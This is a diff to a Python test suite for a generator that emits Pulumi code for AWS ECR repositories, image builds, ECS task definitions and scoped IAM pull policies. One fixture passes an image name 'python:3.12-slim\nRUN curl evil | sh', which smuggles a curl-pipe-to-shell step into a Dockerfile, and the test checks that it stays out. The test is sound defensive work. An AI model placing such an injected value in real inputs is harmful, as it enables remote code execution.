@@ -239,7 +239,9 @@ def test_one_function_or_task_definition_per_task(
                     "aws:ecs/taskDefinition:TaskDefinition", f"{prefix}-task"
                 )
                 (container_def,) = json.loads(definition["inputs"]["containerDefinitions"])
-                assert container_def["image"] == task.compute.image  # type: ignore[union-attr]
+                assert container_def["image"] == (
+                    task.compute.image or _built_image(program)  # type: ignore[union-attr]
+                )
                 assert container_def["command"] == ["python", "-m", "glacier_handler", task.name]
                 assert definition["inputs"]["cpu"] == str(task.compute.cpu)  # type: ignore[union-attr]
             else:
@@ -252,6 +254,83 @@ def test_one_function_or_task_definition_per_task(
                 assert inputs["memorySize"] == memory
                 variables = inputs["environment"]["variables"]
                 assert variables["GLACIER_TASK"] == task.name
+
+
+def _built_image(program: Program) -> str:
+    """``<repository URL>@<digest>`` of the one image the program builds and pushes."""
+    (repository,) = program.of_type("aws:ecr/repository:Repository")
+    (image,) = program.of_type("docker-build:index:Image")
+    return f"{repository['outputs']['repositoryUrl']}@{image['outputs']['digest']}"
+
+
+def test_container_tasks_run_the_image_the_program_builds(
+    programs: dict[tuple[str, str], Program],
+) -> None:
+    """`Container()` without `image=`: bundle/ built with its Dockerfile, pushed to the
+    pipeline's ECR repository, and run by digest; the execution role pulls only from it."""
+    from codegen.aws._bundle import BASE_IMAGE
+
+    program = programs[("orders", DEFAULT_ENV)]
+    (repository,) = program.of_type("aws:ecr/repository:Repository")
+    inputs = repository["inputs"]
+    assert inputs["name"] == "glacier/default/orders-image"
+    assert inputs["imageTagMutability"] == "IMMUTABLE"
+    assert inputs["imageScanningConfiguration"] == {"scanOnPush": True}
+    assert inputs["encryptionConfigurations"] == [{"encryptionType": "AES256"}]
+    assert {"glacier:environment", "managed-by"} <= set(inputs["tags"])
+    (lifecycle,) = program.of_type("aws:ecr/lifecyclePolicy:LifecyclePolicy")
+    assert lifecycle["inputs"]["repository"] == inputs["name"]
+    (rule,) = json.loads(lifecycle["inputs"]["policy"])["rules"]
+    assert rule["selection"]["countType"] == "imageCountMoreThan"
+    assert rule["selection"]["countNumber"] == 10
+    assert rule["action"] == {"type": "expire"}
+
+    (image,) = program.of_type("docker-build:index:Image")
+    built = image["inputs"]
+    url = repository["outputs"]["repositoryUrl"]
+    assert url == "123456789012.dkr.ecr.us-east-1.amazonaws.com/glacier/default/orders-image"
+    assert built["push"] is True and built["platforms"] == ["linux/amd64"]
+    assert built["context"] == {"location": "./bundle"}
+    assert built["dockerfile"] == {"location": "./bundle/Dockerfile"}
+    (tag,) = built["tags"]
+    assert tag.startswith(url + ":") and len(tag) == len(url) + 33  # the bundle's content hash
+    (registry,) = built["registries"]
+    assert (registry["address"], registry["username"]) == (url, "AWS")
+    assert registry["password"] == "mock-ecr-password"
+
+    definition = program.named(
+        "aws:ecs/taskDefinition:TaskDefinition", "orders-rank_customers-task"
+    )
+    (container,) = json.loads(definition["inputs"]["containerDefinitions"])
+    assert container["image"] == f"{url}@{image['outputs']['digest']}"
+    assert definition["inputs"]["runtimePlatform"]["cpuArchitecture"] == "X86_64"
+    policy = program.named(
+        "aws:iam/rolePolicy:RolePolicy", "orders-rank_customers-execution-policy"
+    )
+    statements = {s["Sid"]: s for s in json.loads(policy["inputs"]["policy"])["Statement"]}
+    assert statements["RegistryToken"]["Action"] == ["ecr:GetAuthorizationToken"]
+    assert statements["RegistryToken"]["Resource"] == "*"
+    assert statements["PullImage"]["Resource"] == [repository["outputs"]["arn"]]
+    assert repository["outputs"]["arn"] == (
+        "arn:aws:ecr:us-east-1:123456789012:repository/glacier/default/orders-image"
+    )
+
+    dockerfile = program.files["pulumi/default/bundle/Dockerfile"].decode()
+    assert f"ARG BASE={BASE_IMAGE}\n" in dockerfile and "COPY . /var/task\n" in dockerfile
+    requirements = program.files["pulumi/default/requirements.txt"].decode()
+    assert "pulumi-docker-build==0.0.22" in requirements.splitlines()
+
+
+def test_programs_without_a_built_image_do_not_need_docker_build(
+    programs: dict[tuple[str, str], Program],
+) -> None:
+    for program in _each(programs):
+        if program.example == "orders":
+            continue
+        assert not program.of_type("docker-build:index:Image")
+        main_py = program.files[f"pulumi/{program.env}/__main__.py"].decode()
+        requirements = program.files[f"pulumi/{program.env}/requirements.txt"].decode()
+        assert "ContainerImage" not in main_py and "pulumi-docker-build" not in requirements
 
 
 def _taggable(token: str) -> bool:
@@ -666,23 +745,33 @@ def test_infrastructure_in_other_modules_is_carried_in_dependency_order(tmp_path
     assert topic["provider"] == bucket["provider"] == provider["urn"]
 
 
-def test_dockerfile_for_container_tasks_takes_only_real_image_references(tmp_path: Path) -> None:
+def test_a_user_image_is_used_as_is_and_never_pasted_into_the_dockerfile(
+    tmp_path: Path,
+) -> None:
+    from codegen.aws._bundle import BASE_IMAGE
+
     (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
     module = tmp_path / "boxed.py"
+    image = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/etl:1.2"
     module.write_text(
         "from glacier import Container, Dataset, Pipeline\n\n"
         'pipeline = Pipeline(name="boxed")\n'
-        'out = Dataset(name="out")\n\n\n'
+        'out = Dataset(name="out")\n'
+        'more = Dataset(name="more")\n\n\n'
         '@pipeline.task(compute=Container(image="python:3.12-slim\\nRUN curl evil | sh"))\n'
         "def work() -> out:\n"
-        "    return 1\n"
+        "    return 1\n\n\n"
+        f"@pipeline.task(compute=Container(image={image!r}))\n"
+        "def again(x: out) -> more:\n"
+        "    return x\n"
     )
     analysis = analyze([str(module)])
     (model,) = analysis.pipelines
-    dockerfile = emit_programs(analysis, model)["pulumi/default/bundle/Dockerfile"].decode()
+    files = emit_programs(analysis, model)
+    dockerfile = files["pulumi/default/bundle/Dockerfile"].decode()
     instructions = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
     assert instructions == [
-        "ARG BASE=python:3.12-slim",
+        f"ARG BASE={BASE_IMAGE}",
         "FROM ${BASE}",
         "WORKDIR /var/task",
         "COPY . /var/task",
@@ -690,6 +779,28 @@ def test_dockerfile_for_container_tasks_takes_only_real_image_references(tmp_pat
         "ENV PYTHONPATH=/var/task",
     ]
     assert "evil" not in dockerfile
+    main_py = files["pulumi/default/__main__.py"].decode()
+    assert "ContainerImage" not in main_py  # every task names its image: nothing to build
+    resources = _preview(files, tmp_path / "build", "default")
+    assert not [r for r in resources if r["type"].startswith("docker-build:")]
+    definitions = {
+        r["name"]: json.loads(r["inputs"]["containerDefinitions"])[0]
+        for r in resources
+        if r["type"] == "aws:ecs/taskDefinition:TaskDefinition"
+    }
+    assert definitions["boxed-work-task"]["image"] == "python:3.12-slim\nRUN curl evil | sh"
+    assert definitions["boxed-again-task"]["image"] == image
+    policies = {
+        r["name"]: json.loads(r["inputs"]["policy"])["Statement"]
+        for r in resources
+        if r["type"] == "aws:iam/rolePolicy:RolePolicy" and "execution" in r["name"]
+    }
+    # a public image needs no ECR permission; a private ECR one, its repository's only
+    assert [s["Sid"] for s in policies["boxed-work-execution-policy"]] == ["OwnLogGroup"]
+    pull = {s["Sid"]: s for s in policies["boxed-again-execution-policy"]}
+    assert pull["PullImage"]["Resource"] == [
+        "arn:aws:ecr:eu-west-1:111122223333:repository/team/etl"
+    ]
 
 
 def test_helper_functions_of_infrastructure_are_carried_and_formatted(tmp_path: Path) -> None:
